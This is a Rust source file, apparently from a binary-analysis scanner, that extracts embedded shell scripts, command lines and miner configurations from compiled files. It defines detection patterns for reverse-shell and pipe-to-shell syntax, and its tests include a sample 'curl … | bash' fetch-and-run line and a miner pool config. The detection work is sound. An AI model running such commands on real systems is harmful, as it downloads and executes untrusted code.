//! Programs of other languages inside a compiled one: whole scripts, command lines that start what
//! they fetch, configurations of miners. Whether the program ever runs them cannot be told from
//! the text, so none of them counts as declared.

use memchr::memmem;
use model::place::TEXT_INSIDE;
use model::{Budget, Fact, Language, Step};

use crate::language::{self, miner_config};
use crate::world::World;
use crate::{FileReading, guess, kind};

/// Most texts read of one file.
const MOST_TEXTS: usize = 32;
/// Longest text read, in bytes.
const LONGEST_TEXT: usize = 64 << 10;
/// Longest first line of a script.
const LONGEST_FIRST_LINE: usize = 64;
/// Bytes of a command line looked at to both sides of what tells it.
const COMMAND_BYTES: usize = 160;

/// Reads the texts of a file.
pub fn read(content: &[u8], steps: &[Step], budget: &Budget, reading: &mut FileReading) {
    let mut texts = scripts(content);
    texts.extend(command_lines(content));
    texts.extend(configurations(content));
    for (language, text) in texts.into_iter().take(MOST_TEXTS) {
        let mut world = World::new(budget);
        language::lower(&mut world, language, text);
        let lowered = world.finish();
        if !lowered.acts.is_empty() {
            let steps = [steps, &[Step::new(TEXT_INSIDE)]].concat();
            reading
                .facts
                .push(Fact::Program(lowered.into_program(language, steps, false)));
        }
    }
}

/// Scripts: from their interpreter line to the end of the text.
fn scripts(content: &[u8]) -> Vec<(Language, &str)> {
    let found = memmem::find_iter(content, b"#!/").filter_map(|at| {
        let rest = &content[at..];
        let first = memchr::memchr(b'\n', &rest[..rest.len().min(LONGEST_FIRST_LINE)])?;
        let interpreter = kind::interpreter(&rest[..=first])?;
        let language = language::of_interpreter(std::str::from_utf8(interpreter).ok()?)?;
        let text = text_at(rest);
        // An interpreter line alone is a template or a comparison.
        (text.lines().filter(|line| !line.trim().is_empty()).count() > 1)
            .then_some((language, text))
    });
    found.take(MOST_TEXTS).collect()
}

/// Lines of shell that hand a connection, or what an address without a name returns, to a shell.
fn command_lines(content: &[u8]) -> Vec<(Language, &str)> {
    let signs: [&[u8]; 2] = [b"/dev/tcp/", b"http://"];
    let mut lines: Vec<(Language, &str)> = Vec::new();
    for at in signs
        .iter()
        .flat_map(|sign| memmem::find_iter(content, sign))
    {
        if lines.len() >= MOST_TEXTS {
            break;
        }
        let is_address = content.get(at + 7).is_some_and(u8::is_ascii_digit);
        if content[at] == b'h' && !is_address {
            continue;
        }
        let Some(line) = command_line(content, at) else {
            continue;
        };
        let known = lines.iter().any(|(_, known)| *known == line);
        if !known && guess::language(line) == Some(Language::Shell) {
            lines.push((Language::Shell, line));
        }
    }
    lines
}

/// The command line around a position. Texts of some languages lie side by side with nothing in
/// between, so it begins with its command and ends with the shell it starts.
fn command_line(content: &[u8], at: usize) -> Option<&str> {
    const STARTS: &[&str] = &[
        "bash -i", "bash -c", "sh -i", "sh -c", "exec ", "curl ", "wget ", "0<&",
    ];
    const ENDS: &[&str] = &[
        "0>&1",
        "<&1",
        "2>&1",
        "|sh",
        "| sh",
        "|bash",
        "| bash",
        "| /bin/sh",
        "| /bin/bash",
    ];
    let text = around(content, at);
    let first = memmem::find(text.as_bytes(), content.get(at..at + 12)?)?;
    let head = &text[text.floor_char_boundary(first.saturating_sub(COMMAND_BYTES))..first];
    let before = STARTS.iter().filter_map(|start| head.rfind(start)).min()?;
    let tail = &text[first..text.floor_char_boundary(first + COMMAND_BYTES)];
    let after = ENDS
        .iter()
        .filter_map(|end| Some(tail.find(end)? + end.len()))
        .max()?;
    let start = first - head.len() + before;
    text.get(start..first + after)
}

/// Configurations of miners.
fn configurations(content: &[u8]) -> Vec<(Language, &str)> {
    let found = memmem::find_iter(content, b"\"pools\"").filter_map(|at| {
        let text = around(content, at);
        let text = &text[text.find('{')?..];
        miner_config::may_be(text).then_some((Language::MinerConfig, text))
    });
    found.take(4).collect()
}

/// The text around a position: as far as there is text to both sides.
fn around(content: &[u8], at: usize) -> &str {
    let start = content[..at]
        .iter()
        .rev()
        .take(LONGEST_TEXT)
        .take_while(|byte| is_text(**byte))
        .count();
    text_at(&content[at - start..])
}

fn text_at(content: &[u8]) -> &str {
    let bytes = &content[..content.len().min(LONGEST_TEXT)];
    let end = bytes
        .iter()
        .position(|byte| !is_text(*byte))
        .unwrap_or(bytes.len());
    bytes[..end]
        .utf8_chunks()
        .next()
        .map_or("", |chunk| chunk.valid())
}

const fn is_text(byte: u8) -> bool {
    matches!(byte, b'\t' | b'\n' | b'\r' | 0x20..=0x7e | 0x80..)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(content: &[u8]) -> Vec<(Language, &str)> {
        let mut texts = scripts(content);
        texts.extend(command_lines(content));
        texts.extend(configurations(content));
        texts
    }

    #[test]
    fn scripts_commands_and_configurations_are_cut_out() {
        let content = b"\x7fELF\0\0#!/bin/bash\nid\nls\n\0junk\x01curl -s http://192.0.2.1/a.jpg | bash\0{\"pools\": [{\"url\": \"pool.example.com:1\", \"user\": \"4a\"}]}\0";
        assert_eq!(
            texts(content),
            [
                (Language::Shell, "#!/bin/bash\nid\nls\n"),
                (Language::Shell, "curl -s http://192.0.2.1/a.jpg | bash"),
                (
                    Language::MinerConfig,
                    "{\"pools\": [{\"url\": \"pool.example.com:1\", \"user\": \"4a\"}]}"
                ),
            ]
        );
    }

    #[test]
    fn other_texts_are_left_alone() {
        for content in [
            &b"\0#!/bin/sh\n\0"[..],
            b"\0see http://192.0.2.1/manual for the options\0",
            b"\0Usage: curl [options] http://host | less\0",
            b"\0Install: curl -fsSL http://get.example.com | sh\0",
            b"\0{\"pools\": 4}\0",
        ] {
            assert_eq!(texts(content), [], "{}", String::from_utf8_lossy(content));
        }
    }
}
